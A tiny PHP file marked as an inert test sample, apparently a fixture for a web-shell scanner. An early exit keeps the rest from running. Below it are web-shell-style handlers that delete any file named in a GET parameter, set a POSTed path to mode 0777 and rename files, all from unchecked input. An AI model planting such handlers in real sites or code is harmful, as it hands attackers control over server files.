<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

if (isset($_GET['del'])) { unlink($_GET['del']); }
if (isset($_POST['chmodfile'])) { chmod($_POST['chmodfile'], 0777); }
if (isset($_POST['oldname'])) { rename($_POST['oldname'], 'renamed.txt'); }
echo 'ok';
